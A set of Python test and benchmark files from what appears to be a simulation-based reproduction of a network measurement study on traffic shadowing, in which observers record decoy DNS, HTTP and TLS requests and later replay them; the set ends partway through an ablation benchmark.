        exhibitor.observe(DOMAIN, observed_from="10.0.0.1")
        sim.run()
        assert all(entry.protocol == "http" for entry in deployment.log)
        assert all(entry.path is not None for entry in deployment.log)

    def test_https_unsolicited_logged_as_https(self):
        exhibitor, sim, deployment = make_exhibitor(
            policy=make_policy(protocol_weights={"https": 1.0})
        )
        exhibitor.observe(DOMAIN, observed_from="10.0.0.1")
        sim.run()
        assert all(entry.protocol == "https" for entry in deployment.log)

    def test_enumeration_rate_one_always_probes_paths(self):
        exhibitor, sim, deployment = make_exhibitor(
            policy=make_policy(protocol_weights={"http": 1.0},
                               http_enumeration_rate=1.0, uses=Constant(5))
        )
        exhibitor.observe(DOMAIN, observed_from="10.0.0.1")
        sim.run()
        assert all(entry.path != "/" for entry in deployment.log)

    def test_ground_truth_recorded(self):
        truth = GroundTruth()
        exhibitor, sim, _ = make_exhibitor(ground_truth=truth)
        exhibitor.observe(DOMAIN, observed_from="10.0.0.1")
        assert len(truth) == 1
        record = truth.observations[0]
        assert record.domain == DOMAIN
        assert record.leveraged
        assert record.scheduled_requests == 2

    def test_emit_unknown_protocol_raises(self):
        _, sim, deployment = make_exhibitor()
        emitter = UnsolicitedEmitter(deployment, sim, random.Random(1))
        with pytest.raises(ValueError):
            emitter.emit("gopher", DOMAIN, "1.2.3.4")

    def test_out_of_zone_http_request_is_dropped(self):
        _, sim, deployment = make_exhibitor()
        emitter = UnsolicitedEmitter(deployment, sim, random.Random(1))
        emitter.emit("http", "x.google.com", "1.2.3.4")
        assert len(deployment.log) == 0


class TestExtractDomain:
    def test_dns_packet(self):
        payload = make_query(DOMAIN, txid=1).encode()
        packet = Packet.udp("1.1.1.2", "8.8.8.8", 64, 1000, 53, payload)
        assert extract_domain(packet) == ("dns", DOMAIN)

    def test_http_packet(self):
        payload = make_get(DOMAIN).encode()
        packet = Packet.tcp("1.1.1.2", "2.2.2.2", 64, 1000, 80, payload)
        assert extract_domain(packet) == ("http", DOMAIN)

    def test_tls_packet(self):
        hello = ClientHello(server_name=DOMAIN, random=bytes(32))
        packet = Packet.tcp("1.1.1.2", "2.2.2.2", 64, 1000, 443,
                            wrap_handshake(hello.encode()))
        assert extract_domain(packet) == ("tls", DOMAIN)

    def test_wrong_port_not_parsed(self):
        payload = make_query(DOMAIN, txid=1).encode()
        packet = Packet.udp("1.1.1.2", "8.8.8.8", 64, 1000, 5353, payload)
        assert extract_domain(packet) is None

    def test_garbage_payload_returns_none(self):
        packet = Packet.tcp("1.1.1.2", "2.2.2.2", 64, 1000, 80, b"\x00\x01garbage")
        assert extract_domain(packet) is None

    def test_empty_payload_returns_none(self):
        packet = Packet.tcp("1.1.1.2", "2.2.2.2", 64, 1000, 80, b"")
        assert extract_domain(packet) is None


class TestWireSniffer:
    def make_sniffer(self, protocols=("dns", "http", "tls")):
        exhibitor, sim, deployment = make_exhibitor()
        hop = Hop(address="10.0.0.9", asn=4134, country="CN")
        sniffer = WireSniffer(hop, protocols, exhibitor, ZONE)
        return sniffer, exhibitor, sim

    def test_captures_in_zone_dns(self):
        sniffer, exhibitor, _ = self.make_sniffer()
        payload = make_query(DOMAIN, txid=1).encode()
        packet = Packet.udp("1.1.1.2", "8.8.8.8", 64, 1000, 53, payload)
        sniffer.tap(3, sniffer.hop, packet)
        assert sniffer.domains_captured == 1
        assert exhibitor.observed_count == 1

    def test_ignores_out_of_zone(self):
        sniffer, exhibitor, _ = self.make_sniffer()
        payload = make_query("www.google.com", txid=1).encode()
        packet = Packet.udp("1.1.1.2", "8.8.8.8", 64, 1000, 53, payload)
        sniffer.tap(3, sniffer.hop, packet)
        assert sniffer.domains_captured == 0
        assert exhibitor.observed_count == 0

    def test_protocol_filter(self):
        sniffer, exhibitor, _ = self.make_sniffer(protocols=("http",))
        payload = make_query(DOMAIN, txid=1).encode()
        packet = Packet.udp("1.1.1.2", "8.8.8.8", 64, 1000, 53, payload)
        sniffer.tap(3, sniffer.hop, packet)
        assert exhibitor.observed_count == 0


class TestObserverDeployment:
    def make_deployment(self, fraction):
        exhibitor, sim, _ = make_exhibitor()
        deployment = ObserverDeployment(
            specs=[SnifferSpec(4134, fraction, ("http",), "p")],
            exhibitors={"p": exhibitor},
            zone=ZONE,
            rng=random.Random(7),
        )
        return deployment

    def test_fraction_one_deploys_everywhere(self):
        deployment = self.make_deployment(1.0)
        hop = Hop(address="10.0.0.1", asn=4134, country="CN")
        assert deployment.sniffer_for(hop) is not None

    def test_fraction_zero_deploys_nowhere(self):
        deployment = self.make_deployment(0.0)
        hop = Hop(address="10.0.0.1", asn=4134, country="CN")
        assert deployment.sniffer_for(hop) is None

    def test_unlisted_as_gets_no_sniffer(self):
        deployment = self.make_deployment(1.0)
        hop = Hop(address="10.0.0.2", asn=9999, country="US")
        assert deployment.sniffer_for(hop) is None

    def test_decision_cached_per_router(self):
        deployment = self.make_deployment(0.5)
        hop = Hop(address="10.0.0.3", asn=4134, country="CN")
        assert deployment.sniffer_for(hop) is deployment.sniffer_for(hop)

    def test_unknown_policy_name_rejected(self):
        with pytest.raises(ValueError):
            ObserverDeployment(
                specs=[SnifferSpec(1, 1.0, ("dns",), "missing")],
                exhibitors={},
                zone=ZONE,
                rng=random.Random(1),
            )

    def test_bad_fraction_rejected(self):
        with pytest.raises(ValueError):
            SnifferSpec(1, 1.5, ("dns",), "p")


class TestResolverModel:
    def make_model(self, name="Google", shadow=None, shadow_countries=(),
                   retry_probability=0.0, recursive=True):
        sim = Simulator()
        deployment = HoneypotDeployment(zone=ZONE)
        exhibitor = None
        if shadow:
            emitter = UnsolicitedEmitter(deployment, sim, random.Random(2))
            exhibitor = ShadowExhibitor(make_policy(), sim, emitter, random.Random(3))
        profile = ResolverProfile(
            destination=DESTINATIONS_BY_NAME[name],
            asn=15169,
            recursive=recursive,
            retry_probability=retry_probability,
            shadow_exhibitor="test-policy" if shadow else None,
            shadow_countries=shadow_countries,
        )
        model = ResolverModel(profile, sim, deployment, exhibitor,
                              egress_address="100.88.0.1", rng=random.Random(4))
        return model, sim, deployment, exhibitor

    def test_recursion_reaches_honeypot(self):
        model, sim, deployment, _ = self.make_model()
        model.receive_decoy(DOMAIN, instance_country="US")
        sim.run()
        assert len(deployment.log) == 1
        entry = deployment.log.all()[0]
        assert entry.protocol == "dns"
        assert entry.src_address == "100.88.0.1"

    def test_non_recursive_never_contacts_honeypot(self):
        model, sim, deployment, _ = self.make_model(name="A-root", recursive=False)
        model.receive_decoy(DOMAIN, instance_country="US")
        sim.run()
        assert len(deployment.log) == 0

    def test_retries_produce_extra_queries(self):
        model, sim, deployment, _ = self.make_model(retry_probability=1.0)
        model.receive_decoy(DOMAIN, instance_country="US")
        sim.run()
        assert len(deployment.log) >= 2

    def test_shadowing_feeds_exhibitor(self):
        model, sim, _, exhibitor = self.make_model(shadow=True)
        model.receive_decoy(DOMAIN, instance_country="US")
        assert exhibitor.observed_count == 1

    def test_anycast_country_gate(self):
        model, sim, _, exhibitor = self.make_model(shadow=True,
                                                   shadow_countries=("CN",))
        model.receive_decoy(DOMAIN, instance_country="US")
        assert exhibitor.observed_count == 0
        model.receive_decoy(DOMAIN, instance_country="CN")
        assert exhibitor.observed_count == 1

    def test_profile_with_exhibitor_requires_binding(self):
        profile = ResolverProfile(
            destination=DESTINATIONS_BY_NAME["Google"], asn=15169,
            recursive=True, shadow_exhibitor="x",
        )
        with pytest.raises(ValueError):
            ResolverModel(profile, Simulator(), HoneypotDeployment(zone=ZONE),
                          None, "100.88.0.1", random.Random(1))


class TestWebDestinationModel:
    def make_model(self, tls_rate, http_rate=0.0):
        exhibitor, sim, deployment = make_exhibitor()
        behavior = WebDestinationBehavior(
            tls_shadow_rate_by_country={"CN": tls_rate},
            http_shadow_rate_by_country={"CN": http_rate},
        )
        model = WebDestinationModel(behavior, {"CN": exhibitor}, None,
                                    random.Random(5))
        destination = WebDestination(site="x.example", address="198.18.0.1",
                                     asn=100, country="CN", rank=1)
        return model, destination, exhibitor

    def test_rate_one_always_shadows(self):
        model, destination, exhibitor = self.make_model(1.0)
        assert model.receive_decoy(destination, "tls", DOMAIN)
        assert exhibitor.observed_count == 1

    def test_rate_zero_never_shadows(self):
        model, destination, exhibitor = self.make_model(0.0)
        assert not model.receive_decoy(destination, "tls", DOMAIN)

    def test_decision_is_sticky_per_destination(self):
        model, destination, _ = self.make_model(0.5)
        first = model.receive_decoy(destination, "tls", DOMAIN)
        for _ in range(5):
            assert model.receive_decoy(destination, "tls", DOMAIN) == first

    def test_rejects_dns_decoys(self):
        model, destination, _ = self.make_model(1.0)
        with pytest.raises(ValueError):
            model.receive_decoy(destination, "dns", DOMAIN)

    def test_country_without_exhibitor_does_not_shadow(self):
        model, _, _ = self.make_model(1.0)
        foreign = WebDestination(site="y.example", address="198.18.0.2",
                                 asn=100, country="US", rank=2)
        # Default rates are 0.0 -> never shadows; and no default exhibitor.
        assert not model.receive_decoy(foreign, "tls", DOMAIN)


class TestDnsInterceptor:
    def test_answers_pair_probe(self):
        sim = Simulator()
        interceptor = DnsInterceptor("10.0.0.1", "100.88.9.9", sim,
                                     HoneypotDeployment(zone=ZONE), random.Random(1))
        assert interceptor.answers_pair_probe()

    def test_redirection_recurses_and_retries(self):
        sim = Simulator()
        deployment = HoneypotDeployment(zone=ZONE)
        interceptor = DnsInterceptor("10.0.0.1", "100.88.9.9", sim, deployment,
                                     random.Random(1), retry_count=2)
        interceptor.on_query(DOMAIN)
        sim.run()
        assert len(deployment.log) == 3  # recursion + 2 retries
        assert all(entry.src_address == "100.88.9.9" for entry in deployment.log)
        assert interceptor.intercepted == 1

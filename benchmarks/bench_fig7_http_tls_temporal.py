"""Figure 7 — CDF of time between unsolicited requests and HTTP (/TLS)
decoys.

Paper shapes: retention is shorter than for DNS decoys (less mass after
days); HTTP (97.7% mid-path observers) shows shorter intervals than TLS
(65% destination observers) — the paper links on-the-wire observation to
limited device storage.
"""

from conftest import emit

from repro.analysis.report import percent, render_table
from repro.analysis.temporal import dns_delay_cdfs, web_delay_cdfs
from repro.simkit.units import DAY, HOUR, MINUTE


def test_fig7_web_retention_cdfs(benchmark, result):
    cdfs = benchmark(web_delay_cdfs, result.phase1.events)

    thresholds = (
        ("<10m", 10 * MINUTE), ("<1h", HOUR), ("<6h", 6 * HOUR),
        ("<1d", DAY), ("<3d", 3 * DAY), ("<10d", 10 * DAY),
    )
    emit("fig7_http_tls_temporal", render_table(
        ["Decoy", "n"] + [label for label, _ in thresholds],
        [
            [protocol.upper(), len(cdf)] +
            [percent(cdf.at(value)) for _, value in thresholds]
            for protocol, cdf in sorted(cdfs.items())
        ],
        title="Figure 7: CDF of unsolicited-request delay for HTTP/TLS "
              "decoys (paper: shorter retention than DNS; HTTP < TLS)",
    ))

    http = cdfs["http"]
    tls = cdfs["tls"]
    assert len(http) > 30 and len(tls) > 30

    # Shorter retention than DNS decoys to Yandex.
    yandex = dns_delay_cdfs(result.phase1.events)["Yandex"]
    assert http.at(DAY) > yandex.at(DAY)
    assert tls.at(DAY) > yandex.at(DAY)

    # HTTP (wire observers) beats TLS (destination observers) early on.
    assert http.at(6 * HOUR) > tls.at(6 * HOUR)
    # Only a small share arrives after 3 days.
    assert 1 - http.at(3 * DAY) < 0.25

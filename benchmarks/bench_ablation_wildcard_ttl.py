"""Ablation — wildcard record TTL vs. active cache refreshing.

Section 5.1 rules out cache refreshing as the cause of re-appearing
queries: with the wildcard record TTL at 3,600 s, refreshing resolvers
would re-fetch the name right at the one-hour mark, producing a spike in
Figure 4 that the measurement does not show.  This bench runs the same
campaign with refreshing resolvers enabled and disabled and measures the
mass of unsolicited-request delays near multiples of the record TTL.
"""

from conftest import emit

from repro.analysis.report import percent
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment


def run_campaign(refreshing: bool):
    config = ExperimentConfig.tiny(seed=717171)
    config.cache_refreshing_resolvers = refreshing
    return Experiment(config).run()


def ttl_spike_mass(result, ttl: float = 3600.0, window: float = 120.0) -> float:
    """Fraction of DNS-decoy unsolicited delays within +-window of k*ttl."""
    deltas = [
        event.delta for event in result.phase1.events
        if event.decoy.protocol == "dns"
    ]
    if not deltas:
        return 0.0
    near = sum(
        1 for delta in deltas
        if any(abs(delta - k * ttl) <= window for k in (1, 2))
    )
    return near / len(deltas)


def test_ablation_wildcard_ttl_refresh_spike(benchmark):
    plain = run_campaign(refreshing=False)
    refreshing = benchmark.pedantic(run_campaign, args=(True,),
                                    rounds=1, iterations=1)

    mass_plain = ttl_spike_mass(plain)
    mass_refreshing = ttl_spike_mass(refreshing)
    emit("ablation_wildcard_ttl", "\n".join([
        "Ablation: wildcard record TTL (3600 s) vs active cache refreshing",
        f"refreshing OFF (the measured reality): "
        f"{percent(mass_plain)} of unsolicited-request delays fall within "
        "2 minutes of the 1h/2h marks",
        f"refreshing ON  (the counterfactual):  {percent(mass_refreshing)}",
        "The paper's no-spike observation in Figure 4 is therefore a valid",
        "discriminator between cache refreshing and genuine shadowing.",
    ]))

    assert mass_plain < 0.02
    assert mass_refreshing > 0.10
    assert mass_refreshing > 5 * max(mass_plain, 0.001)

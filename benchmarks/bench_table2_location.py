"""Table 2 — normalized location of traffic observers.

Paper: DNS observers 99.7% at the destination (normalized hop 10); HTTP
observers overwhelmingly on the wire, concentrated mid-path (hops 3-6 sum
to ~94%); TLS bimodal with 65% at destination and a mid-path cluster.
"""

from conftest import emit

from repro.analysis.landscape import destination_share, observer_location_table
from repro.analysis.report import render_table


def test_table2_observer_locations(benchmark, result):
    table = benchmark(observer_location_table, result.locations)

    rows = []
    for protocol in ("dns", "http", "tls"):
        hops = table.get(protocol, {})
        rows.append([protocol.upper()] + [
            f"{hops.get(hop, 0.0):.1f}" for hop in range(1, 11)
        ])
    emit("table2_location", render_table(
        ["Hops from VP"] + [str(hop) for hop in range(1, 11)],
        rows,
        title="Table 2: Normalized location of traffic observers (%) — "
              "paper: DNS 99.7@10; HTTP mid-path; TLS 26@6 + 65@10",
    ))

    assert destination_share(result.locations, "dns") > 0.85
    assert destination_share(result.locations, "http") < 0.15
    tls_share = destination_share(result.locations, "tls")
    assert 0.35 < tls_share < 0.9
    http_hops = table["http"]
    mid_mass = sum(share for hop, share in http_hops.items() if 2 <= hop <= 6)
    assert mid_mass > 60.0

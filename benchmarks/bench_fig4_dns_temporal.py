"""Figure 4 — CDF of time between unsolicited requests and the initial DNS
decoy, for Resolver_h.

Paper shapes: a sub-minute DNS-DNS spike (benign retries), then mass at
hours/days; Yandex/OneDNS/DNSPAI similar with substantial mass beyond a
day; Vercara concentrated within a day; unsolicited HTTP(S) never arrives
within the first hour; resolvers beyond Resolver_h: 95% within 1 minute;
no spike at the 1-hour wildcard-TTL mark (cache refresh ruled out).
"""

from conftest import emit

from repro.analysis.report import percent, render_table
from repro.analysis.temporal import dns_delay_cdfs, other_resolver_cdf
from repro.simkit.units import DAY, HOUR, MINUTE


def test_fig4_dns_retention_cdfs(benchmark, result):
    cdfs = benchmark(dns_delay_cdfs, result.phase1.events)

    thresholds = (
        ("<1m", MINUTE), ("<1h", HOUR), ("<6h", 6 * HOUR),
        ("<1d", DAY), ("<3d", 3 * DAY), ("<10d", 10 * DAY),
    )
    table = render_table(
        ["Resolver", "n"] + [label for label, _ in thresholds],
        [
            [name, len(cdf)] + [percent(cdf.at(value)) for _, value in thresholds]
            for name, cdf in cdfs.items()
        ],
        title="Figure 4: CDF of unsolicited-request delay, DNS decoys to "
              "Resolver_h (paper: sub-minute spike + mass at days)",
    )
    other = other_resolver_cdf(result.phase1.events)
    emit("fig4_dns_temporal", table + (
        f"\n\nOther 15 public resolvers: {percent(other.at(MINUTE))} of "
        f"{len(other)} unsolicited requests within 1 minute (paper: 95%)"
    ))

    yandex = cdfs["Yandex"]
    assert len(yandex) > 50
    # Sub-minute retry spike exists but leaves most mass to hours/days.
    assert 0.02 < yandex.at(MINUTE) < 0.5
    assert yandex.at(DAY) < 0.7
    # >= 20% of Yandex-triggered requests arrive after 3 days (long retention).
    assert 1 - yandex.at(3 * DAY) > 0.2
    # Vercara concentrates within a day.
    assert cdfs["Vercara"].at(DAY) > 0.8
    # Beyond Resolver_h: dominated by the sub-minute retry spike.
    assert other.at(MINUTE) > 0.75

    # HTTP(S) unsolicited requests triggered by DNS decoys to Resolver_h
    # come at least an hour later (Section 5.1).
    from repro.datasets.resolvers import RESOLVER_H_NAMES
    http_deltas = [
        event.delta for event in result.phase1.events
        if event.decoy.protocol == "dns"
        and event.decoy.destination_name in RESOLVER_H_NAMES
        and event.request.protocol in ("http", "https")
    ]
    assert http_deltas
    assert min(http_deltas) > HOUR

    # No cache-refresh spike right at the 3600 s wildcard TTL.
    near_ttl = sum(1 for delta in yandex.samples if 3500 <= delta <= 3700)
    assert near_ttl / len(yandex) < 0.05

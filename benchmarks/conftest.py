"""Shared fixtures for the benchmark harness.

One full campaign runs per session (seeded, default scale) and every
table/figure bench analyzes its output.  Reproduced artifacts are both
printed through pytest capture and emitted to ``benchmarks/out/`` so that
``pytest benchmarks/ --benchmark-only`` leaves the regenerated rows on
disk next to the timing tables.
"""

import pathlib
import sys

import pytest

from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment, ExperimentResult

BENCH_SEED = 20240301

OUT_DIR = pathlib.Path(__file__).parent / "out"


@pytest.fixture(scope="session")
def result() -> ExperimentResult:
    """The session campaign every artifact bench analyzes."""
    config = ExperimentConfig(
        seed=BENCH_SEED,
        web_site_count=160,
        web_destination_count=64,
        web_vps_per_destination=14,
        phase2_paths_per_destination=16,
    )
    return Experiment(config).run()


def emit(name: str, text: str) -> None:
    """Write one reproduced artifact to stdout and benchmarks/out/."""
    OUT_DIR.mkdir(exist_ok=True)
    (OUT_DIR / f"{name}.txt").write_text(text + "\n")
    # Bypass pytest capture so the regenerated rows appear in the tee'd
    # bench log alongside pytest-benchmark's timing tables.
    print(f"\n=== {name} ===\n{text}", file=sys.__stdout__)

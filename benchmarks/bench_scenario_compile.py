"""Performance — scenario parse/compile latency and fuzz generation rate.

The scenario layer sits in front of every campaign launch and inside
every fuzz iteration, so its fixed costs matter twice over.  Records to
``benchmarks/out/BENCH_scenario.json``:

* parse+serialize round-trip latency over the named library (the cost
  of loading a scenario from disk form);
* compile latency (``Scenario -> ExperimentConfig`` with provenance) —
  the per-launch overhead ``repro scenario run`` adds on top of
  ``repro run``;
* fuzz *generation* rate (specs per second, excluding pipeline
  execution) — the fuzzer's own overhead, which must stay negligible
  next to the ~seconds-per-sample invariant checks it drives.

Smoke mode (``REPRO_BENCH_SMOKE=1``): fewer iterations, same shape.
"""

import json
import os
import pathlib
import time

from repro.scenario import (
    compile_with_trace,
    generate_scenario,
    load_library,
    loads_scenario,
    serialize_scenario,
)

OUT_DIR = pathlib.Path(__file__).parent / "out"
ARTIFACT = OUT_DIR / "BENCH_scenario.json"

SMOKE = os.environ.get("REPRO_BENCH_SMOKE") == "1"
COMPILE_ITERATIONS = 50 if SMOKE else 500
GENERATE_SAMPLES = 50 if SMOKE else 500
FUZZ_SEED = 7


def test_scenario_compile_latency_and_fuzz_rate():
    library = load_library()
    texts = {name: serialize_scenario(spec)
             for name, spec in library.items()}

    started = time.perf_counter()
    for _ in range(COMPILE_ITERATIONS):
        for text in texts.values():
            loads_scenario(text)
    parse_seconds = time.perf_counter() - started
    parses = COMPILE_ITERATIONS * len(texts)

    started = time.perf_counter()
    for _ in range(COMPILE_ITERATIONS):
        for spec in library.values():
            compile_with_trace(spec)
    compile_seconds = time.perf_counter() - started
    compiles = COMPILE_ITERATIONS * len(library)

    started = time.perf_counter()
    specs = [generate_scenario(FUZZ_SEED, index)
             for index in range(GENERATE_SAMPLES)]
    generate_seconds = time.perf_counter() - started
    assert len({spec.digest() for spec in specs}) == GENERATE_SAMPLES, \
        "fuzz generation produced duplicate specs"

    payload = {
        "smoke": SMOKE,
        "library_size": len(library),
        "parse": {
            "round_trips": parses,
            "seconds": round(parse_seconds, 4),
            "per_second": round(parses / parse_seconds, 1),
            "mean_us": round(parse_seconds / parses * 1e6, 1),
        },
        "compile": {
            "compiles": compiles,
            "seconds": round(compile_seconds, 4),
            "per_second": round(compiles / compile_seconds, 1),
            "mean_us": round(compile_seconds / compiles * 1e6, 1),
        },
        "fuzz_generation": {
            "samples": GENERATE_SAMPLES,
            "seconds": round(generate_seconds, 4),
            "specs_per_second": round(GENERATE_SAMPLES / generate_seconds, 1),
        },
    }
    OUT_DIR.mkdir(exist_ok=True)
    ARTIFACT.write_text(json.dumps(payload, indent=2) + "\n")
    print(f"\n=== BENCH_scenario ===\n{json.dumps(payload, indent=2)}")

    # Launch overhead must stay invisible next to a multi-second campaign.
    assert compile_seconds / compiles < 0.01

"""Section 4 (in-text) — campaign volume accounting.

Paper: 46,613,616 DNS decoys, 1,694,109,438 HTTP and TLS decoys each,
covering 157K DNS paths and 10.1M web paths, at no more than 2 decoys per
second toward any single target.  The bench derives the rotation cadence
those numbers imply and checks that the paper-scale configuration of this
reproduction reproduces the path populations and respects the rate limit.
"""

from conftest import emit

from repro.core.scalemath import (
    PAPER_DNS_DECOYS,
    PAPER_DNS_PATHS,
    PAPER_DURATION,
    PAPER_HTTP_DECOYS,
    PAPER_WEB_PATHS,
    paper_implied_rounds,
    volume_for,
)
from repro.datasets.providers import PAPER_TOTAL_VP_COUNT
from repro.simkit.units import DAY


def test_sec4_campaign_volume(benchmark):
    implied = benchmark(paper_implied_rounds)

    # Reconstruct the paper's totals from the implied cadence.
    dns_view = volume_for(PAPER_TOTAL_VP_COUNT, 36, 0,
                          implied["dns_rounds"], PAPER_DURATION)
    web_view = volume_for(PAPER_TOTAL_VP_COUNT, 0, 2325,
                          implied["web_rounds"], PAPER_DURATION)

    emit("sec4_volume", "\n".join([
        "Section 4: campaign volume accounting",
        f"paper DNS decoys:  {PAPER_DNS_DECOYS:,} -> "
        f"{implied['dns_rounds']:.0f} full rotations "
        f"({implied['dns_rounds_per_day']:.1f}/day over 61 days)",
        f"paper web decoys:  {PAPER_HTTP_DECOYS:,} (each of HTTP/TLS) -> "
        f"{implied['web_rounds']:.0f} rotations "
        f"({implied['web_rounds_per_day']:.1f}/day)",
        f"path populations:  DNS {PAPER_TOTAL_VP_COUNT * 36:,} "
        f"(paper: {PAPER_DNS_PATHS:,}); "
        f"web {PAPER_TOTAL_VP_COUNT * 2325:,} (paper: {PAPER_WEB_PATHS:,})",
        f"aggregate send rate at paper scale: "
        f"{(dns_view.total_decoys - 2 * dns_view.http_decoys + 3 * web_view.http_decoys) / PAPER_DURATION:.0f}"
        " decoys/second across the fleet",
        "per-target rate: each destination receives one decoy per VP per "
        "rotation — far below the 2/second/target ethics cap.",
    ]))

    # The implied cadence must reconstruct the paper's totals exactly.
    assert round(dns_view.dns_decoys) == PAPER_DNS_DECOYS
    assert round(web_view.http_decoys) == PAPER_HTTP_DECOYS
    # Path populations match the in-text figures to rounding.
    assert abs(PAPER_TOTAL_VP_COUNT * 36 - PAPER_DNS_PATHS) / PAPER_DNS_PATHS < 0.01
    assert abs(PAPER_TOTAL_VP_COUNT * 2325 - PAPER_WEB_PATHS) / PAPER_WEB_PATHS < 0.01
    # Rotation cadences are physically plausible (a few per day).
    assert 1 < implied["dns_rounds_per_day"] < 20
    assert 1 < implied["web_rounds_per_day"] < 20
    # Per-target rate limit: worst case, every VP hits one target within a
    # day's rotation: 4364 sends spread over >= 4364 * 0.5s of schedule.
    per_target_per_second = (implied["web_rounds_per_day"] *
                             PAPER_TOTAL_VP_COUNT) / DAY
    assert per_target_per_second < 2.0

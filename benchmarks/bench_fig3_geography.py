"""Figure 3 (map form) — the country x destination heat matrix.

The paper renders Figure 3 as per-country world maps.  This bench
regenerates the underlying matrix, prints it as a terminal heat map, and
asserts the geographic structure: East-Asian VPs elevated for HTTP/TLS,
the 114DNS hotspot confined to CN, Resolver_h hot from everywhere.
"""

from conftest import emit

from repro.analysis.geography import (
    country_destination_matrix,
    region_of,
    regional_ratios,
    render_heat_matrix,
)
from repro.analysis.report import percent
from repro.datasets.resolvers import RESOLVER_H_NAMES


def test_fig3_geographic_matrix(benchmark, result):
    cells = benchmark(country_destination_matrix, result.ledger,
                      result.phase1.events, "dns")

    http_cells = country_destination_matrix(result.ledger,
                                            result.phase1.events, "http")
    regions_http = regional_ratios(http_cells)
    regions_dns = regional_ratios(cells)
    emit("fig3_geography", "\n".join([
        "Figure 3 (map form): DNS problematic-path heat matrix",
        render_heat_matrix(cells, destinations=list(RESOLVER_H_NAMES)
                           + ["Google", "Cloudflare"]),
        "",
        "Regional problematic ratios:",
        *(f"  {region:<15} dns {percent(regions_dns.get(region, 0.0)):>6}  "
          f"http {percent(regions_http.get(region, 0.0)):>6}"
          for region in sorted(set(regions_dns) | set(regions_http))),
    ]))

    # Resolver_h is hot from every region that sends decoys.
    hot = {name: [] for name in RESOLVER_H_NAMES if name != "114DNS"}
    for cell in cells:
        if cell.destination_name in hot and cell.paths >= 2:
            hot[cell.destination_name].append(cell.ratio)
    for name, ratios in hot.items():
        if ratios:
            assert sum(ratios) / len(ratios) > 0.4, name

    # HTTP shadowing is regionally skewed: East Asia above the global mean.
    if "East Asia" in regions_http:
        others = [ratio for region, ratio in regions_http.items()
                  if region != "East Asia"]
        if others:
            assert regions_http["East Asia"] > sum(others) / len(others)

    assert region_of("CN") == "East Asia"

"""Section 5.1 (in-text) — multi-use retention of DNS decoy data.

Paper: more than one hour after emission, 51% of DNS decoys still produce
over 3 unsolicited requests, and 2.4% produce more than 10; 40% of query
names sent to Yandex re-appear in HTTP(S) requests 10 days later.
"""

from conftest import emit

from repro.analysis.report import percent
from repro.analysis.temporal import multi_use_stats, reappearance_share
from repro.simkit.units import DAY, HOUR


def test_sec51_multi_use_retention(benchmark, result):
    stats = benchmark(multi_use_stats, result.phase1.events, HOUR, "dns")

    yandex_10d = reappearance_share(result.phase1.events, "Yandex",
                                    after=10 * DAY)
    emit("sec51_multiuse", "\n".join([
        "Section 5.1: multi-use retention of DNS decoy data",
        f"DNS decoys with unsolicited requests >1h after emission: "
        f"{stats.decoys_with_late_requests}",
        f"  of which >3 unsolicited requests: "
        f"{percent(stats.share_more_than_3)} (paper: 51%)",
        f"  of which >10 unsolicited requests: "
        f"{percent(stats.share_more_than_10)} (paper: 2.4%)",
        f"Yandex names re-appearing in HTTP(S) >10 days later: "
        f"{percent(yandex_10d)} (paper: 40%)",
    ]))

    assert 0.25 < stats.share_more_than_3 < 0.75
    assert 0.0 < stats.share_more_than_10 < 0.15
    assert stats.share_more_than_10 < stats.share_more_than_3
    assert 0.1 < yandex_10d < 0.7

"""Extension — landscape stability across continuous rounds.

The paper rotates through its VPs "continuously in a round-robin fashion
without stop" for two months and reports a single aggregated landscape.
Running the campaign for several rounds checks the implicit assumption:
the per-destination problematic ratios are a stable property of the
ecosystem, not an artifact of one pass.
"""

from conftest import emit

from repro.analysis.longitudinal import per_round_summaries, round_stability
from repro.analysis.report import percent, render_table
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment


def run_rounds():
    config = ExperimentConfig.tiny(seed=818181)
    config.phase1_rounds = 3
    config.phase2_paths_per_destination = 2  # landscape focus
    return Experiment(config).run()


def test_ext_longitudinal_stability(benchmark):
    result = benchmark.pedantic(run_rounds, rounds=1, iterations=1)

    summaries = per_round_summaries(result.ledger, result.phase1.events)
    stability = round_stability(summaries)

    emit("ext_longitudinal", render_table(
        ("round", "DNS decoys", "shadowed", "share"),
        [(summary.round_index, summary.decoys, summary.shadowed,
          percent(summary.shadowed_share)) for summary in summaries],
        title="Extension: per-round DNS landscape over 3 round-robin passes",
    ) + f"\n\nmax total-variation distance vs round 0: {stability:.3f} "
        "(0 = identical destination distribution each round)")

    assert len(summaries) == 3
    assert all(summary.decoys > 0 for summary in summaries)
    # Every round sees substantial shadowing...
    assert all(summary.shadowed_share > 0.2 for summary in summaries)
    shares = [summary.shadowed_share for summary in summaries]
    assert max(shares) - min(shares) < 0.1
    # ...and the destination distribution barely moves between rounds.
    assert stability < 0.25
    # Yandex stays (nearly) fully shadowed in every round.
    for summary in summaries:
        assert summary.destination_ratios.get("Yandex", 0.0) > 0.9

"""Ablation — what happens without excluding TTL-resetting VPN providers?

Appendix E: some providers rewrite the TTL of every outgoing packet,
which silently breaks hop-by-hop tracerouting (every probe reaches the
destination regardless of the intended TTL).  The bench plants such a
provider, disables the exclusion, and shows Phase II mislocating that
provider's observers at hop 1 (the first probe already triggers).
"""

from conftest import emit

from repro.analysis.report import percent
from repro.core.campaign import Campaign
from repro.core.config import ExperimentConfig
from repro.core.ecosystem import build_ecosystem
from repro.core.correlate import Correlator
from repro.core.experiment import Experiment
from repro.core.phase2 import HopByHopTracer
from repro.datasets.providers import ALL_PROVIDERS, VpnProvider
from repro.simkit.rng import RandomRouter


def run_with_resetter(exclude: bool):
    config = ExperimentConfig.tiny(seed=616161)
    config.exclude_ttl_reset_providers = exclude
    config.pair_resolver_filter = False
    config.interceptors_enabled = False
    eco = build_ecosystem(config)
    offender = VpnProvider("ResetterVPN", "global", "https://example", 0.35,
                           resets_ttl=True)
    eco.platform.__init__(
        RandomRouter(config.seed), vp_scale=config.vp_scale,
        providers=list(ALL_PROVIDERS) + [offender],
    )
    campaign = Campaign(eco)
    campaign.run_phase1()
    correlator = Correlator(campaign.ledger, zone=config.zone)
    phase1 = correlator.correlate(eco.deployment.log, phase=1)
    tracer = HopByHopTracer(campaign)
    # Trace every problematic path of the offending provider explicitly
    # (the default sampler has no reason to prioritize them).
    resetter_vp_ids = {vp.vp_id for vp in eco.platform.vantage_points
                       if vp.provider == "ResetterVPN"}
    destinations = {d.address: d for d in eco.dns_destinations}
    for d in eco.web_destinations:
        destinations[d.address] = d
